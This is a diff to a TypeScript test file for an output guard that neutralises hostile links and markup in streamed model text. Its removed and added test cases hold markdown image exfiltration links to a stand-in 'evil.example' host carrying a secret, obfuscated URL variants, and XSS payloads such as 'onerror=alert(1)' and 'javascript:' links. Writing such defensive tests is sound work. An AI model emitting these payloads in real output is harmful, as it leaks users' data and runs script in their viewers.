@@ -1,11 +1,11 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { isGatewayError } from "../../errors/gateway-error.js";
+import { evil, hostileLinks } from "./fixtures/hostile-links.js";
 import { createGuardedText, guardText, type OutputCounts } from "./guarded-text.js";
 import { outputGuardContract } from "./output-guard-contract.js";
 import { type PatternOutputGuardOptions, patternOutputGuard } from "./pattern-output-guard.js";
 
-const evil = "https://evil.example/log?d=secret";
 const guarded = (text: string, options?: PatternOutputGuardOptions) =>
   guardText(patternOutputGuard(options), text);
 const inPieces = (text: string, sizes: readonly number[], options?: PatternOutputGuardOptions) => {
@@ -21,50 +21,35 @@ const inPieces = (text: string, sizes: readonly number[], options?: PatternOutpu
 /** What a viewer would fetch without a click, or with one. */
 const leads = /\]\(\s*<?\s*https?:\\?\/\\?\/evil|<[a-z][^>]*evil|!\[[^\]]*\]\[|\]\(\s*\/\/evil/i;
 
-const hostile: readonly string[] = [
-  `![chart](${evil})`,
-  `![chart](<${evil}>)`,
-  `![chart]( ${evil} "A title. Of it.")`,
-  `![chart](\n${evil})`,
-  `![One sentence. Another one! A third?](${evil})`,
-  `![](${evil})`,
-  `![a[b]c](${evil})`,
-  `[![nested](${evil})](https://docs.example)`,
-  "![chart](//evil.example/log?d=1)",
-  "![chart](HTTPS://evil.example/)",
-  "![chart](https\\://evil.example/)",
-  "![chart](&#104;ttps://evil.example/)",
-  "![chart](https&colon;//evil.example/)",
-  "![chart](\\\\evil.example/x)",
-  "![chart](https://docs.example@evil.example/)",
-  "![chart](https://docs.example.evil.example/)",
-  "![chart](data:image/svg+xml;base64,PHN2Zy8+)",
-  `![chart][c]\n\n[c]: ${evil}`,
-  `![c]\n\n[c]: ${evil}`,
-  `<img src="${evil}">`,
-  `<img alt="a. b" src='${evil}'>`,
-  `<img\nsrc=${evil}>`,
-  "<img/src=//evil.example/x>",
-  '<img src="&#x68;ttps://evil.example/x">',
-  `<img srcset="${evil} 2x">`,
-  `<image href="${evil}"/>`,
-  `<div style="background: url(${evil})">x</div>`,
-  `<style>@import url(${evil});</style>`,
-  `<iframe srcdoc="x">`,
-  `<img alt=">" src="${evil}">`,
-  `<img alt="> One. " src="${evil}">`,
-  '<img src="\\\\evil.example/x">',
-  '<img src="/\t/evil.example/x">',
-  "![chart](</\t/evil.example/x>)",
-  "![chart](https:evil.example/x)",
-  "<img src=x onerror=alert(1)>",
-  "<svg/onload=alert(1)>",
-  `<a href="javascript:alert(1)">x</a>`,
-  "[click](javascript:alert(1))",
-  "[click](data:text/html,x)",
-];
+/** Where a long text without spaces might be split, an image or an address may begin. */
+const straddling = [`![a](${evil})`, `![c][c]\n\n[c]: ${evil}`, evil, "[x](javascript:alert(1))"];
 
 describe("patternOutputGuard", () => {
+  it.each(straddling)("splits no %j, wherever it stands in a long word", (text) => {
+    for (let before = 1_960; before <= 2_010; before += 1) {
+      const shown = guarded(`${"x".repeat(before)}${text}`, { allowedLinks: ["docs.example"] });
+      expect(shown).not.toMatch(/!\[(?!a\]\(#\))|\]\((?:http|java)|https:/);
+    }
+  });
+
+  it("repeats nothing that was shown while it waited for the end of a bracket", () => {
+    for (const bracket of ["<& ", "[ "]) {
+      const text = `${"word ".repeat(70)}${bracket}${"word ".repeat(30)}${"x".repeat(1_200)}`;
+      expect(inPieces(text, [1])).toBe(text);
+    }
+  });
+
+  it("takes a comparison and a list of hosts for what they are", () => {
+    for (const text of [
+      "x<y, it's > 3",
+      "if a <b and c> d then",
+      "a <b\nc",
+      "![one](/a.png 'A title')",
+      "Wow!! [see](/a)",
+    ])
+      expect(guarded(text, { allowedLinks: ["docs.example"] })).toBe(text);
+  });
+
   const detect = (text: string) =>
     [...text.matchAll(/\S+@\S+\w/g)].map(({ 0: { length }, index }) => ({
       type: "email",
@@ -81,7 +66,7 @@ describe("patternOutputGuard", () => {
       for (const { name, run } of outputGuardContract) it(name, () => run(() => patternOutputGuard(options)));
     });
 
-  it.each(hostile)("takes the danger out of %j, at every split", (text) => {
+  it.each(hostileLinks)("takes the danger out of %j, at every split", (text) => {
     const around = `Here it is: ${text} and more.`;
     const whole = guarded(around, { allowedLinks: ["docs.example"] });
     expect(whole).not.toMatch(leads);
@@ -124,6 +109,7 @@ describe("patternOutputGuard", () => {
     expect(guarded(`[x](${evil}), ${evil}, www.evil.example, https://docs.example`, { allowedLinks })).toBe(
       "[x](#), hxxps://evil.example/log?d=secret, www[.]evil.example, hxxps://docs.example",
     );
+    expect(guarded("https://evil.examplehttps://evil.example", { allowedLinks })).not.toContain("https:");
     expect(guarded("https://a.b.docs.example/", { allowedLinks })).toBe("https://a.b.docs.example/");
   });
 
@@ -188,6 +174,7 @@ describe("patternOutputGuard", () => {
     const findUnwanted = (text: string) =>
       [...text.matchAll(/darn/gi)].map(({ index }) => ({ start: index, end: index + 4 }));
     expect(inPieces("Darn it. Well, darn.", [3], { findUnwanted })).toBe("*** it. Well, ***.");
+    expect(inPieces("Darn, [EMAIL_darn_0001]!", [3], { findUnwanted })).toBe("***, [EMAIL_darn_0001]!");
   });
 
   it("cuts what is too long, also in a stream", () => {
@@ -247,6 +234,10 @@ describe("patternOutputGuard", () => {
   });
 
   it.each([
+    "!",
+    "</user>",
+    "\\",
+    "](  ",
     "[",
     "](",
     "![",
@@ -270,5 +261,8 @@ describe("patternOutputGuard", () => {
       return performance.now() - began;
     });
     expect(Math.min(...times)).toBeLessThan(1_000);
+    const began = process.cpuUsage();
+    inPieces(text, [4], { allowedLinks: ["docs.example"] });
+    expect(process.cpuUsage(began).user).toBeLessThan(1_000_000); // quadratic: 2 s and more
   });
 });
